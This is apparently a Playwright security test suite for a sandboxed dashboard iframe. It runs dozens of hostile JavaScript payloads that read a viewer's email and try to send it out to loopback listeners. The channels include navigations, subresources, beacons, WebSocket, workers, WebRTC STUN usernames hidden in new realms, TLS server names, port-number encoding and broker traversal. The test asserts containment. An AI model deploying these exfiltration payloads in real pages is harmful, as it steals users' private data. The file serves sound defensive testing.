import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { Canaries } from "./support/canary";
import { describeCounts, LoopbackListeners, reached, type Counts, type ListenerTarget } from "./support/listeners";
import { SignInPage } from "./support/pages";
import { DraftAuthor, WatchPage, type CreatedDraft } from "./support/watch-page";

// Hostile dashboards try every way we know to carry a secret out of the sandboxed frame. Each
// first reads the viewer's email through the broker, then aims it at its own loopback listeners
// (e2e/support/listeners.ts), which count what arrives at the socket level: TCP connections with
// or without bytes, HTTP requests, TLS ClientHellos and their server names, UDP datagrams and
// STUN USERNAMEs. Nothing may arrive, and the host page must be left as it was.
//
// Some channels stay open whatever the frame does (see "Residual risks" in
// docs/frame.md): a navigation of the frame by location.* is blocked by the host page's
// frame-src, but Chromium has opened the connection by then, so the port, and for https the
// TLS server name, reach the target. Those cases are in RESIDUAL: the test measures them and
// holds them to the bounds written down there (never an HTTP byte, never a UDP datagram).
//
// A case counts what arrived once it knows the attempts were made and would have been heard:
// the dashboard marks its document once the attack has run and two frames have rendered since
// (so whatever rendering starts has started), or its document is gone (a navigation or
// document.open replaced it); then the browser sends canaries to the case's listeners (see
// support/canary.ts), and what has not arrived before them was not sent.

let listeners: LoopbackListeners;
let canaries: Canaries;
test.beforeAll(({ browser }) => {
  listeners = new LoopbackListeners();
  canaries = new Canaries(browser, listeners);
});
test.afterAll(async () => {
  await canaries.close();
  await listeners.close();
});

/** A dashboard that reads the secret through the broker, shows it, then runs `attack`. */
function hostile(attack: string, t: ListenerTarget): string {
  return `<!doctype html>
<title>hostile</title>
<p id="status">starting</p>
<p id="out"></p>
<script>
(async () => {
  const API = window.DASHBOARD_API_BASE;
  const me = await (await fetch(API + "/me")).json();
  const secret = me.email;
  const HEX = Array.from(new TextEncoder().encode(secret), (b) => b.toString(16).padStart(2, "0")).join("");
  const LEAK = "${t.httpOrigin}/leak?s=" + encodeURIComponent(secret);
  const WS = "${t.wsOrigin}/leak?s=" + encodeURIComponent(secret);
  const UDP = ${t.udpPort}, TLS = ${t.tlsPort}, RANGE = ${t.rangeBase};
  const out = (s) => { document.getElementById("out").textContent += s + ";"; };
  const el = (tag, attrs) => { const e = document.createElement(tag); for (const k in attrs) e.setAttribute(k, attrs[k]); (document.body || document.documentElement).appendChild(e); return e; };
  // The attacker's WebRTC recipe: a peer connection whose remote ICE ufrag is the secret, and a
  // host candidate on the UDP listener, so STUN binding requests carry it in USERNAME.
  const rtc = ${RTC_SOURCE};
  const rtcSource = rtc.toString();
  document.getElementById("status").textContent = "armed";
  try {
    ${attack}
  } catch (e) { out("threw " + (e && e.name)); }
  const status = document.getElementById("status");
  if (status) status.textContent = "done";
  // Every attempt is made once two frames have rendered after it; a frame that renders nothing
  // (hidden, or its document written over) moves on after 250 ms.
  await new Promise((resolve) => { requestAnimationFrame(() => requestAnimationFrame(resolve)); setTimeout(resolve, 250); });
  document.documentElement.setAttribute("data-attempts", "made");
})();
</script>`;
}

/**
 * Waits until the dashboard in the watch page's frame has made every attempt: it marked its
 * document so, or the document is no longer the dashboard's (navigated away or written over
 * by document.open without the mark).
 */
async function attemptsMade(page: Page): Promise<void> {
  const state = async () => {
    const frame = await (await page.getByTestId("dashboard-frame").elementHandle({ timeout: 1_000 }).catch(() => null))?.contentFrame();
    return frame
      ?.evaluate(() => (document.documentElement.getAttribute("data-attempts") === "made" ? "made" : document.getElementById("status") ? "running" : "gone"))
      .catch(() => "unknown");
  };
  await expect.poll(state, { intervals: [25], message: "the dashboard made its attempts" }).toMatch(/^(made|gone)$/);
}

/** The attack names a WebRTC peer, whose channel is UDP. */
const usesWebRtc = (attack: string) => /rtc\(|RTC/.test(attack);

// Kept as source so a srcdoc frame can carry it too; it needs only HEX and UDP in scope.
const RTC_SOURCE = `async function rtc(PC) {
    const pc = new PC();
    pc.createDataChannel("x");
    const offer = await pc.createOffer();
    await pc.setLocalDescription(offer);
    const fingerprint = /a=fingerprint:.*/.exec(offer.sdp)[0];
    const sdp = ["v=0", "o=- 1 1 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0", "m=application 9 UDP/DTLS/SCTP webrtc-datachannel",
      "c=IN IP4 0.0.0.0", "a=ice-ufrag:" + HEX.slice(0, 200), "a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa", fingerprint, "a=setup:active", "a=mid:0",
      "a=sctp-port:5000", ""].join(String.fromCharCode(13, 10));
    await pc.setRemoteDescription({ type: "answer", sdp });
    await pc.addIceCandidate({ candidate: "candidate:1 1 udp 2130706431 127.0.0.1 " + UDP + " typ host", sdpMid: "0", sdpMLineIndex: 0 });
  }`;

/** A srcdoc document that runs the WebRTC recipe in a realm of its own. */
const SRCDOC_INNER = `('<script>const HEX = "' + HEX + '", UDP = ' + UDP + '; (' + rtcSource + ')(RTCPeerConnection);<' + '/script>')`;
/** Markup of a frame with that srcdoc. */
const SRCDOC_RTC = `'<iframe srcdoc="' + ${SRCDOC_INNER}.replace(/"/g, "&quot;") + '"></iframe>'`;

const attacks: Record<string, string> = {
  // Navigation of the frame itself, the top window and popups
  "location.href": `location.href = LEAK;`,
  "location.replace": `location.replace(LEAK);`,
  "location.assign in a timer": `await new Promise((resolve) => setTimeout(() => { location.assign(LEAK); resolve(); }, 50));`,
  "top.location": `top.location.href = LEAK;`,
  "parent.location": `parent.location = LEAK;`,
  "window.open": `const w = window.open(LEAK); out("open " + w);`,
  "window.open to _top": `window.open(LEAK, "_top");`,
  "a.click, no target": `el("a", { href: LEAK }).click();`,
  "a.click target _blank": `el("a", { href: LEAK, target: "_blank" }).click();`,
  "a.click target _top": `el("a", { href: LEAK, target: "_top" }).click();`,
  "a download": `el("a", { href: LEAK, download: "x" }).click();`,
  "a ping on a same-site link": `el("a", { href: "/dashboards/frame", ping: LEAK + "&ping=1" }).click();`,
  "a ping on a leaking link": `el("a", { href: LEAK + "&nav=1", ping: LEAK + "&ping=1" }).click();`,
  "meta refresh": `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=' + LEAK + '">');`,
  "form GET submit": `const f = el("form", { action: LEAK, method: "get" }); f.submit();`,
  "form POST requestSubmit": `const f = el("form", { action: LEAK, method: "post" }); f.appendChild(document.createElement("button")); f.requestSubmit();`,
  "form target _blank": `const f = el("form", { action: LEAK, target: "_blank" }); f.submit();`,
  // Subresources
  img: `new Image().src = LEAK;`,
  "img element and srcset": `el("img", { src: LEAK + "&a=1", srcset: LEAK + "&b=1 2x" });`,
  "input type=image": `el("input", { type: "image", src: LEAK });`,
  script: `el("script", { src: LEAK });`,
  "module script": `el("script", { type: "module", src: LEAK });`,
  "link stylesheet": `el("link", { rel: "stylesheet", href: LEAK });`,
  "link prefetch": `el("link", { rel: "prefetch", href: LEAK });`,
  "link preload": `el("link", { rel: "preload", as: "fetch", href: LEAK, crossorigin: "anonymous" });`,
  "link modulepreload": `el("link", { rel: "modulepreload", href: LEAK });`,
  "link preconnect": `el("link", { rel: "preconnect", href: new URL(LEAK).origin });`,
  "link icon": `el("link", { rel: "icon", href: LEAK });`,
  "link manifest": `el("link", { rel: "manifest", href: LEAK });`,
  "css @import": `el("style", {}).textContent = '@import url("' + LEAK + '");';`,
  "css background": `el("div", { style: "width:10px;height:10px;background:url(" + LEAK + ")" });`,
  "css @font-face": `el("style", {}).textContent = '@font-face{font-family:x;src:url("' + LEAK + '")} body{font-family:x}';`,
  "svg image": `document.body.insertAdjacentHTML("beforeend", '<svg><image href="' + LEAK + '" width="5" height="5"/></svg>');`,
  "svg use": `document.body.insertAdjacentHTML("beforeend", '<svg><use href="' + LEAK + '#x"/></svg>');`,
  object: `el("object", { data: LEAK });`,
  embed: `el("embed", { src: LEAK });`,
  audio: `const a = new Audio(LEAK); a.play().catch(() => {});`,
  video: `el("video", { src: LEAK, poster: LEAK + "&poster=1", autoplay: "" });`,
  "video track": `const v = el("video", {}); const t = document.createElement("track"); t.src = LEAK; t.default = true; v.appendChild(t);`,
  "nested iframe": `el("iframe", { src: LEAK });`,
  "nested srcdoc iframe": `el("iframe", { srcdoc: '<img src="' + LEAK + '">' });`,
  "base href": `el("base", { href: new URL(LEAK).origin + "/" }); el("img", { src: "leak-relative?s=" + encodeURIComponent(secret) });`,
  // Connections
  "fetch through the shim": `await fetch(LEAK).catch(() => {});`,
  "fetch no-cors": `await fetch(LEAK, { mode: "no-cors" }).catch(() => {});`,
  "native fetch from an about:blank child": `const f = el("iframe", {}); await f.contentWindow.fetch(LEAK, { mode: "no-cors" }).catch(() => {});`,
  "Request object to the listener": `await fetch(new Request(LEAK)).catch(() => {});`,
  sendBeacon: `out("beacon " + navigator.sendBeacon(LEAK, secret));`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", LEAK); x.send();`,
  WebSocket: `new WebSocket(WS);`,
  Worker: `new Worker(LEAK);`,
  "Worker from a blob": `new Worker(URL.createObjectURL(new Blob(['fetch("' + LEAK + '")'], { type: "text/javascript" })));`,
  SharedWorker: `new SharedWorker(LEAK);`,
  "service worker": `await navigator.serviceWorker.register(LEAK);`,
  "dynamic import": `await import(LEAK).catch(() => {});`,
  EventSource: `new EventSource(LEAK);`,
  "eval'd fetch": `eval("new Image().src = LEAK");`,
  "document.write after load": `document.open(); document.write('<img src="' + LEAK + '">'); document.close();`,
  // Broker abuse
  "POST through the broker": `await fetch(API + "/me", { method: "POST", body: secret }).catch(() => out("post refused"));`,
  "DELETE through the broker": `await fetch(API + "/me", { method: "DELETE" }).catch(() => out("delete refused"));`,
  "traversal ../": `const r = await fetch(API + "/../draft"); out("traversal " + r.status);`,
  "traversal %2e%2e": `const r = await fetch(API + "/%2e%2e/%2e%2e/draft"); out("encoded " + r.status);`,
  "absolute URL through the broker": `const r = await fetch(LEAK); out("absolute " + r.status);`,
  "protocol-relative URL through the broker": `const r = await fetch(LEAK.replace("http:", "")); out("protocol-relative " + r.status);`,
  "playground write URL": `await fetch("/dashboards/playground/draft", { method: "POST", body: JSON.stringify({ html: secret }) }).catch(() => {}); const r = await fetch("/dashboards/playground/draft"); out("write " + r.status);`,
  "a flood of reads": `const rs = await Promise.all(Array.from({ length: 60 }, () => fetch(API + "/me").then((r) => r.status))); out("flood " + rs.filter((s) => s === 429).length);`,
  "snapshot notice with a hostile time": `const s = el("script", { type: "application/json", id: "dashboard-snapshot", "data-taken-at": '"><img src="' + LEAK + '">' }); s.textContent = JSON.stringify({ secret }); out("snapshot " + JSON.stringify(window.dashboardSnapshot()));`,
  "postMessage to the host": `parent.postMessage({ type: "fetch", id: 1, method: "GET", path: LEAK }, "*"); parent.postMessage({ type: "init", html: secret, apiBase: new URL(LEAK).origin }, "*");`,
  // WebRTC, which CSP does not govern: in the frame and in every realm the frame could create
  "WebRTC: a peer connection": `await rtc(RTCPeerConnection);`,
  "WebRTC: the prefixed constructor": `await rtc(webkitRTCPeerConnection);`,
  "WebRTC: a computed name on globalThis or self": `await rtc(globalThis["RTC" + "PeerConnection"] || self["webkit" + "RTCPeerConnection"]);`,
  "WebRTC: found among the window's names": `const n = Object.getOwnPropertyNames(window).concat(Object.getOwnPropertyNames(Object.getPrototypeOf(window))).find((x) => /PeerConnection/.test(x)); out("found " + n); await rtc(window[n]);`,
  "WebRTC: a fresh iframe's contentWindow": `const f = document.createElement("iframe"); document.body.appendChild(f); await rtc(f.contentWindow.RTCPeerConnection);`,
  "WebRTC: window[0] of a frame in markup": `document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); await rtc(window[0].RTCPeerConnection);`,
  "WebRTC: contentDocument of a frame in markup": `document.body.innerHTML += "<iframe id=f></iframe>"; await rtc(document.getElementById("f").contentDocument.defaultView.RTCPeerConnection);`,
  "WebRTC: an object's about:blank": `document.body.insertAdjacentHTML("beforeend", '<object data="about:blank"></object>'); await rtc(window[0].RTCPeerConnection);`,
  "WebRTC: in a srcdoc frame": `document.body.insertAdjacentHTML("beforeend", ${SRCDOC_RTC});`,
  "WebRTC: in a srcdoc frame by document.write": `document.write(${SRCDOC_RTC});`,
  "WebRTC: in a srcdoc frame, the tag split across writes": `document.write("<ifr"); document.write(${SRCDOC_RTC}.slice(4));`,
  "WebRTC: in a srcdoc frame from a customized built-in": `customElements.define("x-frame", class extends HTMLIFrameElement {}, { extends: "iframe" }); const F = customElements.get("x-frame"); const f = new F(); f.setAttribute("srcdoc", ${SRCDOC_INNER}); document.body.appendChild(f);`,
  "WebRTC: in a frame built by an XML entity": `const d = new DOMParser().parseFromString('<!DOCTYPE r [<!ENTITY e "&#60;h:iframe xmlns:h=&#34;http://www.w3.org/1999/xhtml&#34;/>">]><r>&e;</r>', "application/xml"); document.body.appendChild(document.importNode(d.documentElement, true)); await rtc(window[0].RTCPeerConnection);`,
  // Navigations that start from markup or events, and connection hints
  "window.open to _self": `window.open(LEAK, "_self");`,
  "SVG a, clicked": `document.body.insertAdjacentHTML("beforeend", '<svg><a id="sa" href="' + LEAK + '"><text y="10">x</text></a></svg>'); document.getElementById("sa").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));`,
  "SVG a, a click that cannot be cancelled": `document.body.insertAdjacentHTML("beforeend", '<svg><a id="sa" href="' + LEAK + '"><text y="10">x</text></a></svg>'); document.getElementById("sa").dispatchEvent(new MouseEvent("click", { bubbles: true }));`,
  "meta refresh by document.write": `document.write('<meta http-equiv="refresh" content="0;url=' + LEAK + '">');`,
  "nested srcdoc frames navigating": `document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<iframe srcdoc=&quot;<script>location.href=\\'' + LEAK + '\\'</' + 'script>&quot;></iframe>"></iframe>');`,
  "document.open with three arguments": `document.open(LEAK, "_self", "");`,
  "link preconnect and dns-prefetch to a named host": `for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender"]) el("link", { rel, href: "https://" + rel + "-" + HEX.slice(0, 40) + ".leak.test:" + TLS + "/" });`,
  "speculation rules": `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [LEAK + "&spec=1"] }], prerender: [{ source: "list", urls: [LEAK + "&spec=2"] }] }); document.head.appendChild(s);`,
  WebTransport: `new WebTransport("https://127.0.0.1:" + TLS + "/leak");`,
  // Self-navigation by location: blocked by the host page's frame-src, but connected first
  "port numbers of blocked navigations": `for (let i = 0; i < 30; i++) location.href = "http://127.0.0.1:" + (RANGE + (i % 8) * 16 + parseInt(HEX[i], 16)) + "/";`,
  "https://<secret>.leak.test navigation": `location.href = "https://" + HEX + ".leak.test:" + TLS + "/";`,
  "many https names in one task": `for (let i = 0; i < 100; i++) location.href = "https://" + i + "-" + HEX + ".leak.test:" + TLS + "/";`,
  // Reading the host's secrets
  "document.cookie, parent.document, referrer, baseURI": `
    try { out("cookie=" + document.cookie); } catch (e) { out("cookie threw"); }
    try { out("parent=" + parent.document.title); } catch (e) { out("parent threw"); }
    try { out("parentUrl=" + parent.location.href); } catch (e) { out("parentUrl threw"); }
    out("referrer=" + document.referrer);
    out("base=" + document.baseURI);
    out("location=" + location.href);
    out("name=" + window.name);
    new Image().src = LEAK + "&c=" + encodeURIComponent(document.referrer + document.baseURI);`,
};

/**
 * Channels a browser leaves open, with what each may carry at most per case (see "Residual
 * risks" in docs/frame.md). Never an HTTP request, a byte over plain TCP or a datagram.
 */
const RESIDUAL: Record<string, { connections: number; tlsHellos: number }> = {
  "location.href": { connections: 2, tlsHellos: 0 },
  "location.replace": { connections: 2, tlsHellos: 0 },
  "location.assign in a timer": { connections: 2, tlsHellos: 0 },
  "port numbers of blocked navigations": { connections: 30, tlsHellos: 0 },
  "https://<secret>.leak.test navigation": { connections: 2, tlsHellos: 2 },
  "many https names in one task": { connections: 200, tlsHellos: 200 },
};

async function openHostile(
  page: Page,
  request: APIRequestContext,
  attack: string,
  t: ListenerTarget,
  extra: Record<string, unknown> = {},
  watched: ListenerTarget[] = [t],
) {
  const author = new DraftAuthor(request);
  const draft = await author.create(hostile(attack, t), extra);
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  if (extra.dataMode === "live") {
    // Drawn by the site first; made interactive, nothing of the dashboard runs in this browser
    // before the viewer agrees: there is no frame for it to run in, and the listeners, which hear
    // the browser's canaries, have heard nothing else.
    await expect(watch.safeView()).toBeVisible();
    await watch.makeInteractive();
    await expect(page.getByTestId("consent-gate")).toBeVisible();
    await expect(watch.frameElement()).toHaveCount(0);
    await canaries.send(watched, { udp: true });
    await expect(watch.frameElement()).toHaveCount(0);
    for (const w of watched) {
      const c = listeners.counts(w.name);
      expect(reached(c), `${w.name} before consent: ${describeCounts(c)}`).toBe(false);
    }
    await watch.runWithMyData();
  }
  // The secret was read through the broker before the attack ran.
  await watch.expectLoggedRequest("/me", "200");
  await attemptsMade(page);
  await canaries.send(watched, { udp: usesWebRtc(attack) });
  return { author, draft, watch };
}

function expectContained(name: string, c: Counts): void {
  const bound = RESIDUAL[name];
  test.info().annotations.push({ type: "reached the listeners", description: describeCounts(c) });
  if (!bound) {
    expect(reached(c), `"${name}" reached the listeners: ${describeCounts(c)}`).toBe(false);
    return;
  }
  expect(c.httpRequests, describeCounts(c)).toEqual([]);
  expect(c.udpDatagrams, describeCounts(c)).toBe(0);
  if (c.tlsHellos === 0) expect(c.tcpBytes, describeCounts(c)).toBe(0);
  expect(c.tcpConnections, describeCounts(c)).toBeLessThanOrEqual(bound.connections);
  expect(c.tlsHellos, describeCounts(c)).toBeLessThanOrEqual(bound.tlsHellos);
}

async function expectHostUntouched(page: Page, watch: WatchPage, hostUrl: string, author: DraftAuthor, draft: CreatedDraft) {
  expect(page.url()).toBe(hostUrl);
  expect(page.context().pages()).toHaveLength(1);
  // The host names the draft by the <title> it was given, whatever the dashboard does to its own document.
  await expect(watch.heading()).toHaveText("Watching hostile");
  await expect(watch.connectionState()).toHaveText("live");
  await expect(watch.revision()).toHaveText("1");
  expect((await author.current(draft)).revision).toBe(1);
}

const portRange = (name: string) => (name === "port numbers of blocked navigations" ? 128 : 0);

// The cases share one page per worker: a fresh page costs a renderer process (about 0.4 s on
// two busy cores), and each case's navigation to its own watch page ends the previous case's
// document, timers and peer connections. A failing case ends its worker, so the case after it
// starts on a fresh page.
const leakCase = test.extend<object, { hostPage: Page }>({
  hostPage: [
    async ({ browser }, use) => {
      const context = await browser.newContext();
      await use(await context.newPage());
      await context.close();
    },
    { scope: "worker" },
  ],
});

for (const [name, attack] of Object.entries(attacks)) {
  leakCase(`a dashboard cannot leak: ${name}`, async ({ hostPage: page, request }) => {
    const t = await listeners.target(name, { portRange: portRange(name) });
    const { author, draft, watch } = await openHostile(page, request, attack, t);
    const hostUrl = page.url();
    expectContained(name, listeners.counts(name));
    await expectHostUntouched(page, watch, hostUrl, author, draft);
  });
}

test("live data: WebRTC, links, port numbers and TLS names with an admin's own data", async ({ page, request }) => {
  // The admin opens a live draft's watch link; the broker answers /me as them.
  await new SignInPage(page).open("/");
  await new SignInPage(page).signInAs("admin@demo.test");
  await expect(page).toHaveURL("/");
  const cases = ["WebRTC: a peer connection", "WebRTC: in a srcdoc frame", "SVG a, a click that cannot be cancelled", "port numbers of blocked navigations"];
  const targets = await Promise.all(cases.map((c) => listeners.target(`live: ${c}`, { portRange: portRange(c) })));
  // One page, every attack on its own ports; the navigation runs last, since it ends the document.
  const attack = cases.map((c, i) => `{ ${retarget(attacks[c] ?? "", targets[i]!)} }`).join("\n");
  const { draft } = await openHostile(page, request, attack, targets[0]!, { dataMode: "live" }, targets);
  expect(draft.watchUrl).toContain("/watch/");
  await expect(page.getByTestId("provenance")).toContainText(/live/i);
  for (const c of cases) expectContained(c, listeners.counts(`live: ${c}`));
});

/** The attack with the page's listener constants replaced by `t`'s. */
function retarget(attack: string, t: ListenerTarget): string {
  return `const UDP = ${t.udpPort}, TLS = ${t.tlsPort}, RANGE = ${t.rangeBase}; const LEAK = "${t.httpOrigin}/leak?s=" + encodeURIComponent(secret); ${attack}`;
}

test("what a hostile dashboard reads of its host is nothing", async ({ page, request }) => {
  const t = await listeners.target("reads of its host");
  const draft = await new DraftAuthor(request).create(hostile(attacks["document.cookie, parent.document, referrer, baseURI"] ?? "", t));
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  const out = watch.dashboard().locator("#out");
  await expect(out).toContainText("base=");
  const text = (await out.textContent()) ?? "";
  expect(text).toContain("cookie threw");
  expect(text).toContain("parent threw");
  expect(text).toContain("parentUrl threw");
  expect(text).toContain("referrer=;");
  expect(text).not.toContain(draft.id);
  expect(text).not.toContain(new URL(draft.postUrl).pathname.split("/").pop() ?? "");
});

test("the broker refuses writes, traversal and foreign URLs, and throttles floods", async ({ page, request }) => {
  const t = await listeners.target("broker abuse");
  const draft = await new DraftAuthor(request).create(
    hostile(
      [
        attacks["POST through the broker"],
        attacks["DELETE through the broker"],
        attacks["traversal ../"],
        attacks["traversal %2e%2e"],
        attacks["absolute URL through the broker"],
        attacks["playground write URL"],
        attacks["a flood of reads"],
        `out("done");`,
      ]
        .map((a) => `{ ${a} }`)
        .join("\n"),
      t,
    ),
  );
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  const out = watch.dashboard().locator("#out");
  // Thirty reads go through, eight at a time, while the other worker's cases load the server.
  await expect(out).toContainText("done", { timeout: 20_000 });
  const text = (await out.textContent()) ?? "";
  expect(text).toContain("post refused");
  expect(text).toContain("delete refused");
  expect(text).toContain("traversal 400");
  expect(text).toContain("encoded 400");
  expect(text).toContain("absolute 400");
  expect(text).toContain("write 400");
  expect(Number(/flood (\d+)/.exec(text)?.[1] ?? 0)).toBeGreaterThan(0);
  expect(reached(listeners.counts("broker abuse")), describeCounts(listeners.counts("broker abuse"))).toBe(false);
});

test("a dashboard that reloads itself forever is stopped", async ({ page, request }) => {
  const draft = await new DraftAuthor(request).create(`<!doctype html><p>loop</p><script>setTimeout(() => location.reload(), 20)</script>`);
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  await expect(page.getByText("The dashboard kept reloading itself")).toBeVisible();
});
